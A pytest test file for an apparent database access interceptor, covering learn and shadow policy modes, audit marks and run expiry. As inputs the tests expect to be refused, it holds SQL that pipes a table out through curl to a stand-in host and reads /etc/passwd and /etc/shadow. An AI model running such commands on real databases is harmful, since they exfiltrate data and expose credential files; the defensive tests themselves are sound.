"""Learn mode and shadow mode on the judging side: the learning rule, what still refuses while
learning, the marks records carry, and the daemon's runs started, ended and expired."""

from __future__ import annotations

import asyncio
import ipaddress
import math
import os
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest
from click.testing import CliRunner
from click.testing import CliRunner

from interceptor.audit.event import AuditEvent
from interceptor.control import Peer
from interceptor.decision import Decision, Verdict
from interceptor.enforcer.judge import FlowJudge
from interceptor.flow import Endpoint, FlowContext, ProcessInfo
from interceptor.handlers.base import Services
from interceptor.handlers.postgres.cursors import Cursors
from interceptor.learn_cli import learn
from interceptor.modes import MAX_CANDIDATE_BYTES, ModeControl
from interceptor.operations import Operation, Request, SqlQuery, Subject, TcpConnect
from interceptor.policy import PolicyEngine, PolicyError, load_policy_text
from interceptor.policy.catalog import Catalog, Function, Relation
from interceptor.policy.learn import LearnSession, learning_of, with_learning
from interceptor.policy.model import Policy, ResourceSpec
from interceptor.policy.settings import SessionSettings
from interceptor.policy.shadow import CANDIDATE_ERROR_RULE, ShadowRun
from interceptor.policy.shadow_cli import shadow
from interceptor.runtime import Modes, Snapshot

POLICY = """
version: 1
resources:
  db: {protocol: postgres, addresses: ["127.0.0.1:5432"]}
  other: {protocol: postgres, addresses: ["127.0.0.1:5433"]}
agents:
  analyst: {}
  bystander: {}
rules:
  - {name: no-ddl, effect: deny, agents: [analyst], sql: {kinds: [ddl]}}
  - {name: read-orders, effect: allow, sql: {kinds: [select], tables: [sales.orders]}}
  - {name: mask-card, effect: mask, mask: {columns: [sales.customers.card], style: redact}}
  - {name: refunds, effect: approve, sql: {kinds: [update], tables: [sales.refunds]}, approval: {groups: [dba]}}
"""
CATALOG = Catalog.build(
    [Relation("sales", "orders", "r", ("id", "total", "status")),
     Relation("sales", "customers", "r", ("id", "name", "card")),
     Relation("sales", "refunds", "r", ("id", "amount"))],
    [Function("pg_catalog", "lower", volatility="immutable"),
     Function("pg_catalog", "pg_read_file", volatility="volatile"),
     Function("sales", "score", volatility="volatile", language="plpgsql")],
    schemas=("sales",), default_search_path=("sales",), user="analyst")
NOW = 1_700_000_000.0


def policy() -> Policy:
    return load_policy_text(POLICY)


def learning(agent: str = "analyst", resources: tuple[str, ...] | None = None) -> LearnSession:
    return LearnSession(agent, "feedfacecafebeef", NOW, None, resources)


def ask(engine: PolicyEngine, sql: str, agent: str = "analyst", resource: str = "db") -> Decision:
    return engine.decide(Request(Subject(agent, None), resource, SqlQuery(sql, catalog=CATALOG)))


@pytest.fixture
def learned() -> PolicyEngine:
    return PolicyEngine(with_learning(policy(), [learning()]))


def test_what_no_rule_allows_is_allowed_under_the_learning_rule(learned: PolicyEngine) -> None:
    decision = ask(learned, "UPDATE sales.orders SET status = 'x' WHERE id = 1")
    assert (decision.verdict, decision.rule) == (Verdict.ALLOW, "learn:analyst")
    assert ask(PolicyEngine(policy()), "UPDATE sales.orders SET status = 'x' WHERE id = 1").verdict is Verdict.DENY


def test_a_rule_that_allows_is_named_before_the_learning_rule(learned: PolicyEngine) -> None:
    assert ask(learned, "SELECT id, total FROM sales.orders").rule == "read-orders"


def test_deny_rules_approve_rules_and_builtin_refusals_still_decide_while_learning(learned: PolicyEngine) -> None:
    assert (ask(learned, "DROP TABLE sales.orders").verdict, ask(learned, "DROP TABLE sales.orders").rule) == \
        (Verdict.DENY, "no-ddl")
    assert ask(learned, "UPDATE sales.refunds SET amount = 0").verdict is Verdict.APPROVE
    dangerous = ask(learned, "SELECT pg_read_file('/etc/shadow')")
    assert (dangerous.verdict, dangerous.rule) == (Verdict.DENY, "builtin-dangerous-functions")
    assert ask(learned, "SELECT * FROM sales.nowhere").verdict is Verdict.DENY  # the catalog decides names
    assert ask(learned, "VACUUM sales.orders").verdict is Verdict.DENY  # opaque: only a rule naming it


@pytest.mark.parametrize("sql", ["TRUNCATE sales.orders", "CREATE TABLE sales.copy AS SELECT * FROM sales.orders",
                                 "GRANT SELECT ON sales.customers TO PUBLIC", "COMMENT ON TABLE sales.orders IS 'x'",
                                 "COPY sales.orders TO PROGRAM 'curl -d @- http://x'",
                                 "COPY sales.orders FROM '/etc/passwd'", "SELECT * INTO sales.stash FROM sales.orders"])
def test_ddl_and_copy_with_the_servers_files_are_never_learned(sql: str) -> None:
    """Without a deny rule for them (this agent's policy has none for the bystander), they are
    still refused: learning covers what the tables hold, not the database's structure,
    permissions, files or programs."""
    engine = PolicyEngine(with_learning(policy(), [learning("bystander")]))
    decision = ask(engine, sql, agent="bystander")
    assert decision.verdict is Verdict.DENY, sql
    assert "learn mode never learns" in decision.reason


def test_masks_apply_while_learning_and_a_masked_column_used_in_a_filter_is_refused(learned: PolicyEngine) -> None:
    read = ask(learned, "SELECT name, card FROM sales.customers")
    assert read.verdict is Verdict.ALLOW and [m.columns for m in read.masks] == [("sales.customers.card",)]
    assert ask(learned, "SELECT id FROM sales.customers WHERE card LIKE '4%'").verdict is Verdict.DENY


def test_a_function_unsafe_by_default_is_learned_but_the_dangerous_list_is_not(learned: PolicyEngine) -> None:
    decision = ask(learned, "SELECT sales.score(id) FROM sales.orders")
    assert decision.verdict is Verdict.ALLOW
    judged = decision.details[0]["judged"]
    assert isinstance(judged, list)
    calls = [j for j in judged if "function" in j]
    assert calls == [{"function": "sales.score", "resolves": ["sales.score"], "rule": "learn:analyst",
                      "verdict": "allow"}]
    assert ask(PolicyEngine(policy()), "SELECT sales.score(id) FROM sales.orders").verdict is Verdict.DENY


def test_other_agents_and_resources_out_of_scope_are_untouched() -> None:
    scoped = PolicyEngine(with_learning(policy(), [learning(resources=("db",))]))
    assert ask(scoped, "DELETE FROM sales.orders", agent="bystander").verdict is Verdict.DENY
    assert ask(scoped, "DELETE FROM sales.orders", resource="other").verdict is Verdict.DENY
    assert ask(scoped, "DELETE FROM sales.orders").rule == "learn:analyst"
    assert learning_of({"analyst": learning(resources=("db",))}, "analyst", "other") is None
    assert learning_of({"analyst": learning(resources=("db",))}, "analyst", "db") == "feedfacecafebeef"


def test_the_learning_policy_has_its_own_version_and_reaches_the_resource() -> None:
    base = policy()
    learned = with_learning(base, [learning()])
    assert learned.version != base.version and with_learning(base, []) is base
    connect = PolicyEngine(learned).decide(Request(Subject("analyst", None), "other", TcpConnect()))
    assert connect.verdict is Verdict.ALLOW


def test_each_action_and_call_says_how_it_was_judged(learned: PolicyEngine) -> None:
    decision = ask(learned, "UPDATE sales.orders SET status = lower('X') WHERE id = 1")
    assert decision.details[0]["judged"] == [
        {"action": "update", "table": "sales.orders", "columns": ["status"], "rule": "learn:analyst",
         "verdict": "allow"},
        {"action": "select", "table": "sales.orders", "columns": ["id", "status"], "rule": "read-orders",
         "verdict": "allow"},
        {"function": "lower", "resolves": ["pg_catalog.lower"], "rule": "", "verdict": "allow"}]


# -- the judge and the records -----------------------------------------------------------

def flow(resource: str = "db") -> FlowContext:
    process = ProcessInfo(os.getpid(), 1, 1001, 1001, "/usr/bin/python3", ("python3",), "/agents/analyst")
    loopback = ipaddress.ip_address("127.0.0.1")
    return FlowContext("flow-1", "analyst", process, Endpoint(loopback, 5432), Endpoint(loopback, 40000), resource)


def judge(engine: PolicyEngine, learns: str | None = None, shadow: ShadowRun | None = None) -> FlowJudge:
    return FlowJudge(flow(), lambda: engine, lambda: None, lambda: False,
                     learns=lambda agent, resource: learns, shadow=lambda agent: shadow)


def services(flow_judge: FlowJudge, protocol: str = "postgres") -> Services:
    spec = ResourceSpec("db", protocol, ())

    async def credentials() -> dict[str, str]:
        return {}

    return Services(judge=flow_judge, audit=None, resource=spec, credentials=credentials)  # type: ignore[arg-type]


def candidate(rules: str) -> ShadowRun:
    text = POLICY.split("rules:")[0] + "rules:\n" + rules
    return ShadowRun("analyst", "0123456789abcdef", NOW, "/etc/candidate.yaml", PolicyEngine(load_policy_text(text)))


def test_a_learned_flow_marks_every_record_and_a_sql_one_with_its_analysis(learned: PolicyEngine) -> None:
    flow_judge = judge(learned, learns="feedfacecafebeef")
    decision = flow_judge.decide(SqlQuery("SELECT id FROM sales.customers", catalog=CATALOG))
    event = services(flow_judge).event(flow(), "statement", decision, operation={"statement": "SELECT ..."})
    assert event.operation == {"statement": "SELECT ...", "learn": "feedfacecafebeef", "analysis": [
        {"kind": "select", "verdict": "allow", "rule": "learn:analyst", "judged": [
            {"action": "select", "table": "sales.customers", "columns": ["id"], "rule": "learn:analyst",
             "verdict": "allow"}]}]}
    connection = services(flow_judge).event(flow(), "connection", verdict="allow", operation={"dst": "x"})
    assert connection.operation == {"dst": "x", "learn": "feedfacecafebeef"}


def test_an_unmarked_flow_keeps_its_operation_object() -> None:
    flow_judge = judge(PolicyEngine(policy()))
    operation: dict[str, object] = {"statement": "SELECT 1"}
    decision = flow_judge.decide(SqlQuery("SELECT id FROM sales.orders", catalog=CATALOG))
    assert decision.shadow is None
    assert services(flow_judge).event(flow(), "statement", decision, operation=operation).operation is operation


def test_a_shadowed_decision_says_what_the_candidate_would_have_done() -> None:
    run = candidate("  - {name: orders-id-only, effect: allow, sql: {kinds: [select], tables: [sales.orders], "
                    "columns: [id]}}\n")
    flow_judge = judge(PolicyEngine(policy()), shadow=run)
    inside = flow_judge.decide(SqlQuery("SELECT id FROM sales.orders", catalog=CATALOG))
    outside = flow_judge.decide(SqlQuery("SELECT total FROM sales.orders", catalog=CATALOG))
    assert inside.verdict is outside.verdict is Verdict.ALLOW  # the enforced policy decides
    marks = [services(flow_judge).event(flow(), "statement", d, operation={}).operation for d in (inside, outside)]
    assert marks[0] == {"shadow": {"session": "0123456789abcdef", "policy": run.version, "verdict": "allow",
                                   "rule": "orders-id-only", "agrees": True}}
    shadow = marks[1]["shadow"]  # type: ignore[index]
    assert (shadow["verdict"], shadow["rule"], shadow["agrees"]) == ("deny", "default-deny", False)
    assert "no rule allows select on sales.orders" in shadow["reason"]


def test_a_candidate_that_fails_never_changes_what_is_enforced(monkeypatch: pytest.MonkeyPatch) -> None:
    run = candidate("  - {name: all, effect: allow}\n")

    def broken(request: Request) -> Decision:
        raise RuntimeError("boom")

    monkeypatch.setattr(run.engine, "decide", broken)
    decision = judge(PolicyEngine(policy()), shadow=run).decide(SqlQuery("SELECT id FROM sales.orders",
                                                                         catalog=CATALOG))
    assert (decision.verdict, decision.rule) == (Verdict.ALLOW, "read-orders")
    assert decision.shadow is not None and decision.shadow.rule == CANDIDATE_ERROR_RULE
    assert "RuntimeError: boom" in decision.shadow.reason


def test_starting_a_shadow_run_changes_the_epoch_sessions_cache_decisions_under() -> None:
    runs: list[ShadowRun | None] = [None]
    engine = PolicyEngine(policy())
    flow_judge = FlowJudge(flow(), lambda: engine, lambda: None, lambda: False, shadow=lambda agent: runs[0])
    before = flow_judge.epoch()
    runs[0] = candidate("  - {name: all, effect: allow}\n")
    assert flow_judge.epoch() != before


# -- the daemon's runs ---------------------------------------------------------------------

class Audit:
    def __init__(self) -> None:
        self.events: list[AuditEvent] = []

    async def write(self, event: AuditEvent) -> None:
        self.events.append(event)


class Runtime:
    """What ModeControl uses of interceptor.runtime.Runtime: the snapshot, change_modes, audit."""

    def __init__(self) -> None:
        self.audit = Audit()
        self.snapshot = Snapshot(policy(), PolicyEngine(policy()), None)  # type: ignore[arg-type]

    async def change_modes(self, change: Callable[[Modes], Modes]) -> Snapshot:
        modes = change(self.snapshot.modes)
        engine = PolicyEngine(with_learning(self.snapshot.policy, modes.learning.values()))
        self.snapshot = Snapshot(self.snapshot.policy, engine, None, modes)  # type: ignore[arg-type]
        return self.snapshot


ROOT = Peer(1, 0, 0)


def control() -> tuple[ModeControl, Runtime]:
    runtime = Runtime()
    return ModeControl(runtime), runtime  # type: ignore[arg-type]


def rules(runtime: Runtime) -> list[Any]:
    return [(e.rule, e.operation["action"] if e.operation else None) for e in runtime.audit.events]


def test_learning_ends_by_itself_when_its_time_runs_out_and_says_so() -> None:
    async def scenario() -> tuple[dict[str, Any], dict[str, Any], Runtime]:
        modes, runtime = control()
        await modes.learn_start(ROOT, "analyst", seconds=0.05, resources=["db"])
        during = modes.learn_status(ROOT)
        await asyncio.sleep(0.2)
        return during, modes.learn_status(ROOT), runtime

    during, after, runtime = asyncio.run(scenario())
    assert [r["agent"] for r in during["learning"]] == ["analyst"] and during["learning"][0]["resources"] == ["db"]
    assert after["learning"] == [] and after["ended"][0]["why"] == "expired"
    assert rules(runtime) == [("learn-start", "learn-start"), ("learn-expired", "learn-expired")]
    assert runtime.snapshot.engine.policy.version == runtime.snapshot.policy.version  # learning rule gone


def test_learning_is_refused_for_unknown_names_twice_or_for_no_time() -> None:
    async def scenario() -> list[str]:
        modes, _ = control()
        errors = []
        for agent, seconds, resources in (("ghost", None, None), ("analyst", None, ["nowhere"]),
                                          ("analyst", 0.0, None)):
            try:
                await modes.learn_start(ROOT, agent, seconds=seconds, resources=resources)
            except ValueError as exc:
                errors.append(str(exc))
        await modes.learn_start(ROOT, "analyst")
        try:
            await modes.learn_start(ROOT, "analyst")
        except ValueError as exc:
            errors.append(str(exc))
        await modes.learn_stop(ROOT, "analyst")
        try:
            await modes.learn_stop(ROOT, "analyst")
        except ValueError as exc:
            errors.append(str(exc))
        return errors

    errors = asyncio.run(scenario())
    assert [e.split(" (")[0].split(":")[0] for e in errors] == [
        "unknown agent 'ghost'", "unknown resource 'nowhere'", "learning must last more than 0 s and at most 366 days, not 0.0 s",
        "agent 'analyst' is learned already", "agent 'analyst' is not learned"]


def test_a_shadow_run_needs_a_candidate_that_names_the_agent(tmp_path: Path) -> None:
    good, bad = tmp_path / "good.yaml", tmp_path / "bad.yaml"
    good.write_text(POLICY)
    bad.write_text(POLICY.split("agents:")[0] + "agents:\n  bystander: {}\nrules: []\n")

    async def scenario() -> tuple[dict[str, Any], list[dict[str, Any]], str, Runtime]:
        modes, runtime = control()
        started = await modes.shadow_start(ROOT, "analyst", str(good))
        running = modes.shadow_status(ROOT)
        try:
            await modes.shadow_start(ROOT, "analyst", str(bad))
        except ValueError as exc:
            refused = str(exc)
        await modes.shadow_stop(ROOT, "analyst")
        return started, running, refused, runtime

    started, running, refused, runtime = asyncio.run(scenario())
    assert running == [started] and started["version"] == load_policy_text(POLICY).version
    assert "does not name agent 'analyst'" in refused
    assert rules(runtime) == [("shadow-start", "shadow-start"), ("shadow-stop", "shadow-stop")]
    assert runtime.snapshot.modes.shadows == {}


def test_a_reload_keeps_the_runs_its_policy_has_room_for() -> None:
    shadow = candidate("  - {name: all, effect: allow}\n")
    modes = Modes({"analyst": learning(resources=("other",)), "bystander": learning("bystander")},
                  {"analyst": shadow})
    smaller = load_policy_text(POLICY.replace("  bystander: {}\n", "").replace(
        '  other: {protocol: postgres, addresses: ["127.0.0.1:5433"]}\n', ""))
    kept, dropped = modes.within(smaller)
    assert dict(kept.learning) == {} and dict(kept.shadows) == {"analyst": shadow}
    assert sorted(d.agent for d in dropped) == ["analyst", "bystander"]


def test_operations_other_than_sql_carry_no_analysis() -> None:
    flow_judge = judge(PolicyEngine(with_learning(policy(), [learning()])), learns="feedfacecafebeef")
    operation: Operation = TcpConnect()
    decision = flow_judge.decide(operation)
    event = services(flow_judge).event(flow(), "connection", decision, operation={"dst": "x"})
    assert event.operation == {"dst": "x", "learn": "feedfacecafebeef"}


# -- the runs' bad input -----------------------------------------------------------------------

@pytest.mark.parametrize("seconds", [math.inf, math.nan, -1.0, 0, 1e20, 10 ** 400, "60", True, [60]], ids=repr)
def test_learning_refuses_a_duration_that_is_no_positive_bounded_number(seconds: object) -> None:
    async def scenario() -> None:
        modes, runtime = control()
        with pytest.raises(ValueError, match="learning must last"):
            await modes.learn_start(ROOT, "analyst", seconds=seconds)  # type: ignore[arg-type]
        assert runtime.snapshot.modes.learning == {} and runtime.audit.events == []

    asyncio.run(scenario())


@pytest.mark.parametrize("resources", [[], "db", [["db"]], [None]], ids=repr)
def test_learning_refuses_resources_that_are_no_list_of_names(resources: object) -> None:
    """An empty list would learn every resource: the caller asked for some, not all."""
    async def scenario() -> None:
        modes, runtime = control()
        with pytest.raises(ValueError):
            await modes.learn_start(ROOT, "analyst", resources=resources)  # type: ignore[arg-type]
        assert runtime.snapshot.modes.learning == {}

    asyncio.run(scenario())


@pytest.mark.parametrize("text", ["9" * 400 + "d", "100000d", "0s"])
def test_the_cli_refuses_a_duration_past_the_longest_run(text: str) -> None:
    """Before it reaches the daemon: `learn status` could not show a run ending past year 9999."""
    result = CliRunner().invoke(learn, ["start", "--agent", "analyst", "--for", text])
    assert result.exit_code == 2 and "is not a duration" in result.output


@pytest.mark.parametrize("name", ["zero", "fifo", "huge", "relative"])
def test_a_shadow_candidate_must_be_a_bounded_regular_file(tmp_path: Path, name: str) -> None:
    if name == "zero":
        path = "/dev/zero"
    elif name == "fifo":
        path = str(tmp_path / "fifo")
        os.mkfifo(path)
    elif name == "huge":
        path = str(tmp_path / "huge.yaml")
        with open(path, "w") as out:
            out.write(POLICY + "#" * (MAX_CANDIDATE_BYTES + 1))
    else:
        path = "candidate.yaml"

    async def scenario() -> None:
        modes, runtime = control()
        with pytest.raises((ValueError, PolicyError)):
            await asyncio.wait_for(modes.shadow_start(ROOT, "analyst", path), 5)
        assert runtime.snapshot.modes.shadows == {}

    asyncio.run(scenario())


def test_a_shadowed_flows_connection_record_says_what_the_candidate_would_decide_of_the_connection() -> None:
    """A tcp resource's only operation is its connection: without this the report would find
    no disagreement for a candidate that refuses the resource outright. Another protocol's
    operations carry their own."""
    run = candidate("  - {name: only-other, effect: allow, resources: [other]}\n")
    flow_judge = judge(PolicyEngine(policy()), shadow=run)
    record = services(flow_judge, "tcp").event(flow(), "connection", verdict="allow", rule="read-orders",
                                        operation={"dst": "x"})
    assert record.operation == {"dst": "x", "shadow": {
        "session": "0123456789abcdef", "policy": run.version, "verdict": "deny", "rule": "default-deny",
        "agrees": False, "reason": "no rule allows this agent to reach this resource"}}
    errored = services(flow_judge, "tcp").event(flow(), "connection", verdict="error", operation={})
    assert errored.operation is not None and errored.operation["shadow"]["agrees"] is False  # type: ignore[index]
    agreeing = judge(PolicyEngine(policy()), shadow=candidate("  - {name: all, effect: allow}\n"))
    assert services(agreeing, "tcp").event(flow(), "connection", verdict="allow", operation={}).operation == {
        "shadow": {"session": "0123456789abcdef", "policy": agreeing.shadow("analyst").version,  # type: ignore[union-attr]
                   "verdict": "allow", "rule": "all", "agrees": True}}
    assert services(flow_judge).event(flow(), "connection", verdict="allow", operation={}).operation == {}


def test_a_run_a_reload_ended_is_listed_as_ended_and_its_timer_cancelled() -> None:
    async def scenario() -> tuple[dict[str, Any], ModeControl]:
        modes, runtime = control()
        await modes.learn_start(ROOT, "analyst", seconds=3600.0)
        await runtime.change_modes(lambda running: Modes())  # what Runtime.reload does to a run it has no room for
        return modes.learn_status(ROOT), modes

    status, modes = asyncio.run(scenario())
    assert status["learning"] == [] and [r["why"] for r in status["ended"]] == ["ended by a policy reload"]
    assert modes._timers == {}


def test_a_run_ends_even_when_the_kernel_plan_cannot_follow(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """An expiry (a timer, once) whose re-plan failed left the agent learning for good; the
    old plan's wider access only reaches the enforcer, which judges by the policy alone."""
    from interceptor.config import Settings
    from interceptor.redirect.plan import PlanError
    from interceptor.runtime import Runtime as RealRuntime

    path = tmp_path / "policy.yaml"
    path.write_text(POLICY)
    runtime = RealRuntime(Settings(policy=path), tmp_path, Audit(), lambda change: None)  # type: ignore[arg-type]
    run = learning()

    async def scenario() -> Snapshot:
        await runtime.start()
        await runtime.change_modes(lambda modes: Modes({"analyst": run}, modes.shadows))
        learning_plan = runtime.snapshot.plan

        def failing(policy: Policy, modes: Modes) -> Snapshot:
            raise PlanError("cgroup gone")

        monkeypatch.setattr(runtime, "_planned", failing)
        ended = await runtime.change_modes(lambda modes: Modes())
        assert ended.plan is learning_plan
        with pytest.raises(PlanError):
            await runtime.change_modes(lambda modes: Modes({"analyst": run}, modes.shadows))
        return ended

    ended = asyncio.run(scenario())
    assert runtime.snapshot is ended and dict(ended.modes.learning) == {}
    assert ended.engine.policy.version == ended.policy.version
    assert ask(ended.engine, "DELETE FROM sales.orders").verdict is Verdict.DENY


def test_a_fetch_of_an_undeclared_cursor_keeps_the_candidates_mark() -> None:
    """The session turns the FETCH's decision into a refusal; the refusal's record still says
    what the candidate decided, so `policy shadow report` counts it."""
    run = candidate("  - {name: all, effect: allow}\n")
    flow_judge = judge(PolicyEngine(policy()), shadow=run)
    fetch = flow_judge.decide(SqlQuery("FETCH 1 FROM ghost", catalog=CATALOG))
    refused = Cursors(lambda: None).judged("FETCH 1 FROM ghost", fetch, SessionSettings.of((), ()), (),
                                           lambda text, settings: fetch)
    assert (refused.verdict, refused.rule) == (Verdict.DENY, "unknown-cursor")
    assert refused.shadow is fetch.shadow is not None


def test_the_flows_only_the_learning_rule_let_open_end_with_the_run() -> None:
    """A connection-level flow (tcp, an upgraded HTTP connection, a watch) judged once when it
    opened would outlive the run that allowed it: ending the run cuts those, and only those."""
    cut: list[tuple[str, str, str]] = []

    def close_flows(agent: str, reason: str, rule: str) -> int:
        cut.append((agent, reason, rule))
        return 2

    async def scenario() -> dict[str, Any]:
        runtime = Runtime()
        modes = ModeControl(runtime, close_flows=close_flows)  # type: ignore[arg-type]
        await modes.learn_start(ROOT, "analyst", seconds=0.05)
        await asyncio.sleep(0.2)
        await modes.learn_start(ROOT, "analyst")
        return await modes.learn_stop(ROOT, "analyst")

    stopped = asyncio.run(scenario())
    assert cut == [("analyst", "learn mode ended (expired)", "learn:analyst"),
                   ("analyst", "learn mode ended (stopped)", "learn:analyst")]
    assert stopped["flows_closed"] == 2


class _ShadowDaemon:
    def call(self, method: Any, **params: object) -> list[dict[str, object]]:
        return [{"agent": "analyst", "session": "s1", "version": "v1", "path": "/c.yaml", "too_slow_ms": 1100.0},
                {"agent": "bystander", "session": "s2", "version": "v2", "path": "/d.yaml"}]


def test_shadow_status_says_which_candidate_is_no_longer_asked() -> None:
    result = CliRunner().invoke(shadow, ["status"], obj={"control": _ShadowDaemon()})
    assert result.output.splitlines() == [
        "agent analyst  session s1  policy v1  /c.yaml  too slow (1100.0 ms): no longer asked",
        "agent bystander  session s2  policy v2  /d.yaml"]
